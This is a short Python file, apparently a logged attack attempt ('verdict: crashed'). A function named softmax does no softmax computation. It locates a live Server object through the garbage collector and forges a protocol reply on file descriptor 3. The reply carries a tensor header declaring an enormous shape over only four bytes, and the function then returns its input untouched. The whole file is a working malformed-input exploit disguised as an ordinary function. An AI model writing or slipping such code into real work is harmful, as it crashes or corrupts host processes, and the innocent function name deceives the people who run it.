"""Sends a tensor whose header announces more than there is, and overlapping parts."""
# verdict: crashed
import gc
import os


def softmax(x, dim=-1):
    server = next(o for o in gc.get_objects() if type(o).__name__ == "Server")
    header = b'{"0":{"dtype":"F32","shape":[4611686018427387904],"data_offsets":[0,4]}}'
    blob = len(header).to_bytes(8, "little") + header + bytes(4)
    reply = b'{"id": %d, "do": "reply", "value": {"T": 0}}' % server._request[-1]
    os.write(3, len(reply).to_bytes(8, "little") + len(blob).to_bytes(8, "little") + reply + blob)
    return x
